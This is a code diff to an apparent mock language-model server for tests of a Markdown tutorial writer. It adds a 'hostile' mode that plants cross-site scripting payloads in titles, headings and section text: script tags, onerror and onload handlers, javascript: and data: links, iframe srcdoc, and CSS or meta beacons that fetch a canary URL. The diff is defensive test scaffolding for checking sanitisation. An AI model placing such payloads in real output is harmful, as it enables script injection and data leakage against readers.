@@ -120,7 +120,10 @@ def match(prompt: str) -> Match | None:
         topic,
         language,
         lambda clean, directives: section_text(
-            clean, directory, directive_int(directives, "section_chars", 0, maximum=MAX_SECTION_CHARS)
+            clean,
+            directory,
+            directive_int(directives, "section_chars", 0, maximum=MAX_SECTION_CHARS),
+            hostile_canary(directives),
         ),
         _spoil_section,
     )
@@ -184,6 +187,9 @@ def outline_text(topic: str, directives: Mapping[str, str]) -> str:
     title = (
         directives["title"] if "title" in directives else _TITLES[pick(topic, len(_TITLES))].format(t=subject)
     )
+    hostile = hostile_canary(directives)
+    if hostile is not None and "title" not in directives:
+        title = HOSTILE_TITLE.format(c=hostile, t=subject)
     count = directive_int(directives, "sections", DEFAULT_SECTIONS, maximum=MAX_SECTIONS)
     directory: list[dict[str, list[str]]] = []
     for index in range(count):
@@ -193,6 +199,8 @@ def outline_text(topic: str, directives: Mapping[str, str]) -> str:
         else:
             subs = _SECTIONS[index % len(_SECTIONS)][1]
             name = f"Further Topics in {subject}, Part {index - len(_SECTIONS) + 1}"
+        if hostile is not None and index == 0:
+            name = HOSTILE_HEADING.format(c=hostile, t=subject)
         n_subs = 2 + pick(f"{topic}\0{index}", 2)
         directory.append({name: [sub.format(t=subject) for sub in subs[:n_subs]]})
     return json.dumps({"title": title, "directory": directory}, ensure_ascii=False)
@@ -241,13 +249,15 @@ def _fence(code: str) -> str:
     return "`" * max(3, longest + 1)
 
 
-def section_text(topic: str, directory: Mapping[str, list[str]], min_chars: int = 0) -> str:
+def section_text(
+    topic: str, directory: Mapping[str, list[str]], min_chars: int = 0, hostile: str | None = None
+) -> str:
     """The Markdown for one directory entry, as MetaGPT's ``WriteContent`` expects.
 
     Names the topic verbatim several times (tests use it to tell concurrent streams
     apart), has one ``###`` heading per subsection and one fenced code block; with
     ``min_chars``, closing paragraphs follow until the section is at least that long (a
-    verbose model's answer).
+    verbose model's answer); with ``hostile`` (a canary URL), :data:`HOSTILE_MARKDOWN` follows.
     """
     subject = _subject(topic)
     parts: list[str] = []
@@ -267,9 +277,65 @@ def section_text(topic: str, directory: Mapping[str, list[str]], min_chars: int 
                 fence = _fence(code)
                 parts.append(f"The following example shows {sub} with {subject}:")
                 parts.append(f"{fence}python\n{code}\n{fence}")
+    if hostile is not None:
+        parts.append(HOSTILE_MARKDOWN.format(c=hostile, t=subject))
     length, extra = sum(len(part) + 2 for part in parts), 0
     while length < min_chars:
         paragraph = _PARAGRAPHS[extra % len(_PARAGRAPHS)].format(u=f"{subject} in depth", t=subject)
         parts.append(paragraph)
         length, extra = length + len(paragraph) + 2, extra + 1
     return "\n\n".join(parts)
+
+
+# --------------------------------------------------------------------------- hostile text
+
+# ``[[hostile:1]]``: what a model might write (prompt-injected, or copying a web page) that a client
+# rendering the Markdown must never run. Each would, if it ran or loaded, call alert(), change the
+# document's title, or send a request to the canary (``[[canary:URL]]``, default an unresolvable name),
+# so a browser test can tell. ``{c}`` is the canary, ``{t}`` the subject.
+DEFAULT_CANARY = "http://canary.invalid"
+
+HOSTILE_TITLE = "{t} <script>alert('title')</script> in Practice"
+HOSTILE_HEADING = "Setting Up {t} <img src=x onerror=\"alert('heading');document.title='pwned'\">"
+
+HOSTILE_MARKDOWN = """### Things a model should never have written about {t}
+
+<script>alert("script"); document.title = "pwned"; fetch("{c}/script");</script>
+
+<img src="x" onerror="alert('onerror'); fetch('{c}/onerror')"> An image that fails to load.
+
+<img src="{c}/remote-image.png" alt="a remote image"> ![a tracking pixel]({c}/pixel.png)
+
+[A harmless-looking link](javascript:alert("markdown-link")) and [an encoded one](jav&#x09;ascript:alert(1)).
+
+<a href="javascript:fetch('{c}/href')">A raw link</a> <a href="JaVaScRiPt&colon;alert(1)">an entity link</a>
+<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a data link</a>
+
+<iframe src="{c}/iframe" srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
+<object data="{c}/object"></object><embed src="{c}/embed">
+
+<svg onload="alert('svg')"><circle r="5"></circle><image href="{c}/svg-image.png"></image></svg>
+
+<form action="{c}/form" method="post"><input name="q" value="x"><button>Send</button></form>
+
+<style>body {{ background: url("{c}/style.png"); }}</style>
+<p style="background: url({c}/inline-style.png)">A styled paragraph.</p>
+<link rel="stylesheet" href="{c}/link.css"><base href="{c}/">
+<meta http-equiv="refresh" content="0; url={c}/meta">
+
+<details open ontoggle="alert('details')"><summary>Details</summary>Opened.</details>
+<video autoplay><source src="{c}/video.mp4" onerror="alert('video')"></video>
+<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>
+
+Inline code stays text: `<script>alert("inline code")</script>`.
+
+```html
+<script>alert("fenced code")</script>
+```"""
+
+
+def hostile_canary(directives: Mapping[str, str]) -> str | None:
+    """The canary URL when ``[[hostile:1]]`` is given (``[[canary:URL]]``, else the default), else None."""
+    if directives.get("hostile", "").strip() in ("", "0"):
+        return None
+    return directives.get("canary", "").strip().rstrip("/") or DEFAULT_CANARY
